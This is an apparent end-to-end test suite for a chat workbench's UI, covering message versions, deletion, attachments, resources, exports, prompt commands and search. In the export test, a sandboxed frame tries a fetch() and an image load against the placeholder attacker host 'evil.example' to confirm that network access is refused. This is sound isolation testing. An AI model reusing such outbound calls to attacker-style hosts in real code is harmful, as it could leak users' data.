/** Versions, copies and deletions of entries, in the built workbench. */
import { readFile } from "node:fs/promises";
import { fileURLToPath } from "node:url";
import type { Locator, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { GatewayStage, officialServer } from "../../../../testing/gateway/gateway-stage.ts";
import { builtWorkbench, WorkbenchPage } from "../../../../testing/gateway/workbench-page.ts";
import {
  callTool,
  type ScriptedModel,
  say,
  startScriptedModel,
} from "../../../../testing/model/scripted-model.ts";

let stage: GatewayStage;
let model: ScriptedModel;
let workbench: WorkbenchPage;
let page: Page;

beforeAll(async () => {
  model = await startScriptedModel();
  stage = await GatewayStage.open(
    {
      mcpServers: {
        asking: {
          command: process.execPath,
          args: [fileURLToPath(new URL("../../../../testing/gateway/asking-server.mjs", import.meta.url))],
        },
        whole: {
          command: process.execPath,
          args: [
            fileURLToPath(new URL("../../../../testing/gateway/whole-server.mjs", import.meta.url)),
            "legacy",
          ],
        },
        basic: {
          command: process.execPath,
          args: [officialServer("basic-vanillajs"), "--stdio"],
          policy: { "tools/call": "allow" },
        },
      },
      model: { use: "local/scripted", providers: { local: { url: model.url, models: ["scripted"] } } },
    },
    builtWorkbench(),
  );
  workbench = await WorkbenchPage.open(stage.context, stage.gateway.loginUrl());
  ({ page } = workbench);
});
afterAll(async () => {
  await stage?.close();
  await model?.close();
});
beforeEach(async () => {
  await workbench.newConversation();
});

const card = (text: string): Locator => page.locator(".card").filter({ hasText: text }).last();
const quiet = (): Promise<void> =>
  page.getByRole("button", { name: "Stop", exact: true }).waitFor({ state: "detached" });

async function tell(text: string, answer: string): Promise<void> {
  model.add(say(answer));
  await workbench.tell(text);
  await card(answer.replaceAll("*", "")).waitFor();
  await quiet();
}

describe("a message", () => {
  it("can be edited: what followed stays as another version, with its app", async () => {
    model.add(callTool("basic__get-time", {}), say("The time is above."));
    await workbench.tell("First question");
    await card("The time is above.").waitFor();
    await quiet();
    await page.locator("mcp-app iframe").waitFor();
    await card("First question").getByRole("button", { name: "Edit this message" }).click();
    const field = page.getByRole("textbox", { name: "Message" });
    expect(await field.inputValue()).toBe("First question");
    model.add(say("Second answer"));
    await field.fill("Second question");
    await field.press("Enter");
    await card("Second answer").waitFor();
    await quiet();
    expect(await page.getByRole("log").getByText("First question", { exact: true }).count()).toBe(0);
    // Its app was closed.
    await expect.poll(() => page.locator("mcp-app").count()).toBe(0);
    const versions = page.getByRole("group", { name: "Versions" });
    expect(await versions.textContent()).toContain("2/2");
    await versions.getByRole("button", { name: "Previous version" }).click();
    await card("The time is above.").waitFor();
    await page.locator("mcp-app iframe").waitFor();
    expect(await versions.textContent()).toContain("1/2");
    expect(await page.getByRole("log").getByText("Second question", { exact: true }).count()).toBe(0);
    // After a reload, the same version is shown.
    await page.reload();
    await card("The time is above.").waitFor();
    expect(await versions.textContent()).toContain("1/2");
    expect(workbench.complaints).toEqual([]);
  });

  it("can be deleted, and that can be taken back", async () => {
    await tell("Keep this", "An answer to delete");
    await card("An answer to delete").getByRole("button", { name: "More about this entry" }).click();
    await page.getByRole("menuitem", { name: "Delete" }).click();
    await expect.poll(() => page.getByText("An answer to delete").count()).toBe(0);
    await page.getByRole("button", { name: "Undo" }).click();
    await card("An answer to delete").waitFor();
    await card("An answer to delete").getByRole("button", { name: "More about this entry" }).click();
    await page.getByRole("menuitem", { name: "Delete" }).click();
    await page.getByRole("button", { name: "Undo" }).waitFor({ state: "detached" });
    await page.reload();
    await card("Keep this").waitFor();
    expect(await page.getByText("An answer to delete").count()).toBe(0);
  });
});

describe("an answer", () => {
  it("can be regenerated, and continued in a new conversation", async () => {
    await tell("Question", "Answer one");
    model.add(say("Answer two"));
    await card("Answer one").getByRole("button", { name: "Regenerate" }).click();
    await card("Answer two").waitFor();
    await quiet();
    expect(await page.getByText("Answer one").count()).toBe(0);
    await tell("More", "Answer three");
    await card("Answer two").getByRole("button", { name: "More about this entry" }).click();
    await page.getByRole("menuitem", { name: "Continue in a new conversation" }).click();
    await expect.poll(() => page.getByText("Answer three").count()).toBe(0);
    await card("Answer two").waitFor();
    // The copy has only what was shown.
    expect(await page.getByRole("group", { name: "Versions" }).count()).toBe(0);
    await tell("In the copy", "Copied");
    await page.getByRole("button", { name: "Conversations" }).click();
    expect(
      await page.getByRole("list", { name: "Conversations" }).getByText("Question", { exact: true }).count(),
    ).toBe(2);
    await page.keyboard.press("Escape");
  });
});

describe("an attachment", () => {
  it("is added by button, paste and drop, removed by its chip, and reaches the model", async () => {
    const name = page.getByRole("list", { name: "Attachments" });
    const [chooser] = await Promise.all([
      page.waitForEvent("filechooser"),
      page.getByRole("button", { name: "Attach files" }).click(),
    ]);
    await chooser.setFiles([
      { name: "notes.md", mimeType: "text/markdown", buffer: Buffer.from("# Notes of the user") },
      { name: "manual.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.7") },
      { name: "archive.zip", mimeType: "application/zip", buffer: Buffer.from("PK") },
    ]);
    await name.getByText("notes.md").waitFor();
    await name.getByText("manual.pdf").waitFor();
    await page.getByText("“archive.zip” is neither a picture").waitFor();
    const field = page.getByRole("textbox", { name: "Message" });
    for (const kind of ["paste", "drop"])
      await field.evaluate(async (element, event) => {
        const canvas = new OffscreenCanvas(3_000, 20);
        canvas.getContext("2d")?.fillRect(0, 0, 10, 10);
        const data = new DataTransfer();
        data.items.add(new File([await canvas.convertToBlob()], `${event}.png`, { type: "image/png" }));
        const options = { bubbles: true, cancelable: true };
        element.dispatchEvent(
          event === "paste"
            ? new ClipboardEvent("paste", { ...options, clipboardData: data })
            : new DragEvent("drop", { ...options, dataTransfer: data }),
        );
      }, kind);
    await name.getByText("drop.png").waitFor();
    await name.getByText("paste.png").waitFor();
    await name.getByRole("button", { name: "Remove drop.png" }).click();
    model.add(say("Seen."));
    await workbench.tell("Look");
    await card("Seen.").waitFor();
    await quiet();
    const said = JSON.stringify(model.requests.at(-1)?.body.messages.at(-1));
    expect(said).toContain("# Notes of the user");
    expect(said).toContain(`data:application/pdf;base64,${btoa("%PDF-1.7")}`);
    expect(said.match(/data:image\/jpeg;base64,/g)).toHaveLength(1);
    expect(await name.count()).toBe(0);
    // The stored picture was made smaller.
    await page.reload();
    const picture = card("Look").getByRole("img");
    await picture.waitFor();
    expect(await picture.evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBe(1_568);
    expect(workbench.complaints).toEqual([]);
  });
});

describe("a resource of a server", () => {
  it("is found, read and attached: a text with its address, a picture, and one of a template", async () => {
    const attach = page.getByRole("button", { name: "Attach a resource" });
    const dialog = page.getByRole("dialog", { name: "Attach a resource" });
    const chips = page.getByRole("list", { name: "Attachments" });
    await attach.click();
    await dialog.getByRole("searchbox", { name: "Search resources" }).fill("whole note");
    expect(await dialog.getByRole("listitem").count()).toBe(1);
    await dialog.getByRole("button", { name: /notes/ }).click();
    await chips.getByText("note://today").waitFor();
    await attach.click();
    // The documents of apps are no resources to talk about.
    expect(await dialog.getByText("ui://").count()).toBe(0);
    await dialog.getByRole("button", { name: /pixel/ }).click();
    await chips.getByText("pixel://one").waitFor();
    await attach.click();
    await dialog.getByRole("button", { name: /forecast/ }).click();
    await page.keyboard.type("Norway");
    await dialog.getByLabel("city").fill("B");
    await dialog.getByText("Suggestions: Bergen").waitFor();
    await dialog.getByLabel("city").fill("Bergen");
    await dialog.getByText("weather://Norway/Bergen").waitFor();
    await page.keyboard.press("Enter");
    await chips.getByText("weather://Norway/Bergen").waitFor();
    model.add(say("Read."));
    await workbench.tell("What is in there?");
    await card("Read.").waitFor();
    await quiet();
    const said = JSON.stringify(model.requests.at(-1)?.body.messages.at(-1));
    expect(said).toMatch(/\(resource note:\/\/today\)\\n# Today/);
    expect(said).toContain("data:image/png;base64,");
    expect(said).toContain('\\"city\\":\\"Bergen\\"');
    expect(workbench.complaints).toEqual([]);
  });
});

describe("an export", () => {
  it("as Markdown can also be copied", async () => {
    await stage.context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await tell("Copy all of this", "All of **it**.");
    await page.getByRole("button", { name: "Conversations" }).click();
    await page.getByRole("button", { name: "More about Copy all of this" }).first().click();
    await page.getByRole("menuitem", { name: "Copy as Markdown" }).click();
    const copied = () => page.evaluate(() => navigator.clipboard.readText());
    await expect.poll(copied).toMatch(/Copy all of this[\s\S]*All of \*\*it\*\*\./);
    await page.keyboard.press("Escape");
    expect(workbench.complaints).toEqual([]);
  });

  it("as a page shows its app as it was, without a gateway or a network", async () => {
    model.add(callTool("basic__get-time", {}), say("See **above**."));
    await workbench.tell("What time is it?");
    await card("See above.").waitFor();
    await quiet();
    const app = await workbench.appIn(
      page
        .locator(".card")
        .filter({ has: page.locator("mcp-app") })
        .last(),
    );
    const shown = app.locator("#server-time");
    await expect.poll(() => shown.textContent()).not.toMatch(/^(Loading.*)?$/);
    const time = await shown.textContent();
    await page.getByRole("button", { name: "Conversations" }).click();
    await page.getByRole("button", { name: "More about What time is it?" }).first().click();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("menuitem", { name: "Export as a page with apps" }).click(),
    ]);
    const path = await download.path();
    await page.keyboard.press("Escape");
    const other = await stage.context.browser()?.newContext();
    const file = await other?.newPage();
    if (!file) throw new Error("no page");
    const asked: string[] = [];
    // Only what the policy lets pass.
    await file.route("**", async (route) => {
      asked.push(route.request().url());
      await route.abort();
    });
    const content = await readFile(path, "utf8");
    await file.setContent(content);
    await file.getByText("What time is it?", { exact: true }).last().waitFor();
    // No app runs before the reader wants it.
    expect(file.frames()).toHaveLength(1);
    await file.getByRole("button", { name: "Run this app" }).click();
    await expect
      .poll(async () => (await file.frames()[1]?.locator("#server-time").textContent()) ?? "")
      .toBe(time);
    // The app has an origin of its own, and nothing leaves the file.
    const frame = file.frames()[1];
    const tried = await frame?.evaluate(async () => {
      const fetched = await fetch("https://evil.example/").then(
        () => "sent",
        () => "refused",
      );
      const loaded = await new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve("loaded");
        image.onerror = () => resolve("refused");
        image.src = "https://evil.example/a.png";
      });
      return { fetched, loaded, origin: self.origin };
    });
    expect(tried).toEqual({ fetched: "refused", loaded: "refused", origin: "null" });
    expect(asked).toEqual([]);
    await other?.close();
    expect(workbench.complaints).toEqual([]);
  });
});

describe("a prompt of a server", () => {
  it("is a command, with suggestions for its arguments, and is written into the field", async () => {
    const field = page.getByRole("textbox", { name: "Message" });
    await field.fill("/comp");
    await page.getByRole("option", { name: /whole compare/ }).click();
    const dialog = page.getByRole("dialog", { name: "Compare cities" });
    const first = dialog.getByLabel(/^first/);
    await first.fill("Ro");
    await expect
      .poll(() =>
        dialog
          .locator("datalist")
          .first()
          .locator("option")
          .evaluateAll((options) => options.map((each) => (each as HTMLOptionElement).value)),
      )
      .toContain("Rome");
    await first.fill("Rome");
    await dialog.getByRole("button", { name: "Write it" }).click();
    await expect
      .poll(() => field.inputValue())
      .toBe("User: Compare Rome with home.\n\nAssistant: With pleasure.");
    // By keyboard, by its whole name.
    await field.fill("/whole compare");
    await field.press("Escape");
    await field.press("Enter");
    await dialog.waitFor();
    await dialog.getByRole("button", { name: "Cancel" }).click();
    await dialog.waitFor({ state: "detached" });
    expect(workbench.complaints).toEqual([]);
  });
});

describe("a search", () => {
  it("marks its words in the conversation, and goes through them; also after a search in all", async () => {
    model.add(say("Apples, **apples** and `apples`."));
    await workbench.tell("About pears");
    await card("Apples, apples and apples.").waitFor();
    await quiet();
    await page.getByRole("button", { name: "Find", exact: true }).click();
    const bar = page.getByRole("search", { name: "Find in this conversation" });
    await bar.getByRole("searchbox").fill("apples");
    await bar.getByText("1 of 3").waitFor();
    await bar.getByRole("button", { name: "Previous match" }).click();
    await bar.getByText("3 of 3").waitFor();
    const marked = () =>
      page.evaluate(() => [...(CSS.highlights.get("found") ?? [])].map((range) => `${range}`));
    expect(await marked()).toEqual(["Apples", "apples", "apples"]);
    await bar.getByRole("button", { name: "Close" }).click();
    expect(await marked()).toEqual([]);
    await workbench.newConversation();
    await page.getByRole("button", { name: "Conversations" }).click();
    await page.getByRole("searchbox", { name: "Search conversations" }).fill("apples");
    const list = page.getByRole("list", { name: "Conversations" });
    await list.getByRole("button").filter({ hasText: "apples" }).first().click();
    await bar.getByText("1 of 3").waitFor();
    await bar.getByRole("button", { name: "Close" }).click();
  });
});
